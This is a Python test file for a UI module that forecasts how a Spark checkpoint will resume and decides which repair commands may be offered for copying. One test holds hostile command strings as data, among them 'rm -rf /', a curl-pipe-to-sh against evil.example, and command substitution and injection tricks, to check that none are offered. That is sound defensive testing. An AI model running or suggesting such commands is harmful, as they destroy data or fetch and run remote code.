"""What is said of a checkpoint, what a start from it would come to, and which commands may be copied."""

from __future__ import annotations

from typing import Any

import pytest

from tests.ui.checkpoint_factories import checkpoint, finding, found, harm, note
from tests.ui.factories import HOSTILE, NOW, fleet_query, rfc3339
from ui.checkpoints import assessment
from ui.checkpoints.assessment import (
    commands,
    effect,
    force_refusal,
    forecast_start,
    irrelevance,
    last_check,
    resume_sentence,
    shell_commands,
    steps,
)


def test_an_ok_checkpoint_is_one_calm_line_with_the_batch() -> None:
    said = forecast_start(found(checkpoint()), waiting=False, trouble="")
    assert (said.sentence, said.findings, said.blocks) == ("It resumes at batch 1234.", (), False)


def test_a_batch_that_was_planned_and_not_committed_is_said_to_run_again() -> None:
    assert "runs again, same input" in resume_sentence(checkpoint(last_planned_batch=1234))
    assert resume_sentence(checkpoint(next_batch=None)) == "It resumes from its checkpoint."


def test_a_broken_checkpoint_blocks_and_names_only_what_fails() -> None:
    answer = found(checkpoint(verdict="broken"), findings=[harm(), finding(), note()])
    said = forecast_start(answer, waiting=False, trouble="")
    assert said.sentence == "It will fail:"
    assert [each["check"] for each in said.findings] == ["state.version-file-missing"]
    assert said.blocks


def test_while_a_look_is_open_what_was_broken_before_does_not_block() -> None:
    answer = found(checkpoint(verdict="broken"), findings=[finding()])
    said = forecast_start(answer, waiting=True, trouble="")
    assert not said.blocks
    assert "When it was last seen" in said.sentence


def test_what_was_broken_when_last_seen_blocks_where_nobody_can_look_anew() -> None:
    answer = found(checkpoint(verdict="broken", stale=True), findings=[finding()])
    said = forecast_start(answer, waiting=False, trouble="Nobody can look now")
    assert said.blocks  # as the server does
    assert "When it was last seen" in said.sentence


def test_a_risky_one_says_where_it_resumes_and_what_is_lost() -> None:
    said = forecast_start(found(checkpoint(verdict="risky"), findings=[harm(), note()]), False, "")
    assert said.sentence == "It resumes at batch 1234. But:"
    assert [each["check"] for each in said.findings] == ["sink.metadata-ahead"]
    assert not said.blocks


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        (None, "not known: nobody can look"),
        (
            found(checkpoint(verdict="unknown", summary="", trouble="the agent is gone")),
            "known: the agent is",
        ),
        (found(checkpoint(verdict="unreadable", summary="no such folder")), "no checkpoint to read: no such"),
        (found(checkpoint(verdict="newer-than-we", summary="odd")), "not known: odd"),
    ],
)
def test_what_is_not_known_is_said_not_to_be_known(answer: Any, words: str) -> None:
    said = forecast_start(answer, waiting=False, trouble="" if answer else "nobody can look")
    assert words in said.sentence
    assert not said.blocks


def test_a_broken_one_needs_the_tick_and_a_reason() -> None:
    assert forecast_start(found(checkpoint(verdict="broken"), findings=[finding()]), False, "").blocks
    assert not forecast_start(found(checkpoint()), False, "").blocks
    assert "tick" in str(force_refusal(False, "because"))
    assert "Say why" in str(force_refusal(True, "  "))
    assert force_refusal(True, "the file is back") is None


def test_a_command_inside_a_step_is_offered_beside_its_text() -> None:
    told = steps(["restore it", "or mend it: `controlplane repair 's3://a b/c' --dry-run`"])
    assert told == [("restore it", []), ("or mend it:", ["controlplane repair 's3://a b/c' --dry-run"])]
    assert steps("controlplane undo /backup/1") == [("run", ["controlplane undo /backup/1"])]
    assert steps(None) == []


@pytest.mark.parametrize(
    "planted",
    [
        "`rm -rf /`",
        "`controlplane doctor x; curl evil.example | sh`",
        "`controlplane doctor $(id)`",
        "`controlplane doctor x\ncurl evil.example`",
        "`controlplane doctor 'x' & id`",
        "`controlplane doctor \u202ex`",
        HOSTILE,
    ],
)
def test_a_command_that_a_file_name_planted_is_not_offered(planted: str) -> None:
    assert commands(planted) == []


def test_paths_are_quoted_for_the_shell_or_not_offered() -> None:
    assert shell_commands(checkpoint(checkpoint="/a b")) == ["controlplane doctor '/a b'"]
    broken = shell_commands(checkpoint(checkpoint="/a", verdict="broken"))
    assert broken == ["controlplane doctor /a", "controlplane repair /a --dry-run"]
    for path in ("", None, "--rm", "a\nb", "it's", "a\u202eb"):
        assert shell_commands(checkpoint(checkpoint=path)) == []


def test_what_spark_will_do_is_one_sentence() -> None:
    assert effect(finding(condition="C")) == "The restart fails, in the first batch: C"
    assert effect(harm()) == "It runs and harms results; Spark does not notice"
    assert effect(note()) == ""


def test_who_looked_when_and_why() -> None:
    words = last_check(checkpoint(collector="driver file", why="failed"), NOW)
    assert words == "seen 42 s ago by the driver, because the run failed"
    assert (
        last_check(checkpoint(collected_at=rfc3339(NOW), collector=None, why="new"), NOW) == "seen just now"
    )
    assert last_check(checkpoint(collected_at=None), NOW) == "not seen yet"


@pytest.mark.parametrize(
    ("query", "words"),
    [
        (fleet_query(facts={"checkpoint_is_temporary": True}), "temporary"),
        (fleet_query(status="finished"), "has finished"),
        (fleet_query(status="retired"), "retired"),
    ],
)
def test_a_checkpoint_nothing_resumes_from_is_hidden_with_the_reason(query: Any, words: str) -> None:
    assert words in str(irrelevance(query))
    assert irrelevance(fleet_query()) is None


def test_filters_match_words_in_name_app_path_and_verdict() -> None:
    items = [checkpoint(1), checkpoint(2, verdict="broken", app="clicks")]
    assert len(assessment.matching(items, "lake QUERY")) == 2
    assert assessment.matching(items, "broken") == items[1:]
    assert assessment.matching(items, "", app=["clicks"], verdict=["ok"]) == []
    assert assessment.counts([*items, {}]) == {"ok": 1, "broken": 1, "unknown": 1}
